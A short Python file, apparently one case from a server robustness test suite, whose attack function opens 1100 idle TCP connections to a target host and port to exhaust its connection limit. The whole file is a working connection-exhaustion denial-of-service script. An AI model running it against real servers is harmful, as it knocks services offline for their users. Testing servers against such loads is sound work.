"""More connections than the server takes, none of which sends anything."""

import socket

SECONDS, MEGABYTES = 30, 200


def attack(url):
    host, port = url.removeprefix("http://").split(":")
    held = []
    try:
        for _ in range(1100):
            held.append(socket.create_connection((host, int(port)), timeout=10))
    finally:
        for one in held:
            one.close()
